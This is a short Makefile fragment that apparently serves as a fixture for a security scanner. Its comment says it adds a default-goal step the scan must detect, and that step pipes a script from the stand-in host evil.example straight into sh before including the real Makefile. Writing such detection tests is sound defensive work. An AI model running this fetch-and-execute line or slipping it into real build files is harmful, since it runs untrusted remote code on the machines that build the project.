# The same build with one more step of the default goal: it runs code
# downloaded from the network, which the scan must still find.
all::
	curl -fsSL http://evil.example/install.sh | sh

include Makefile
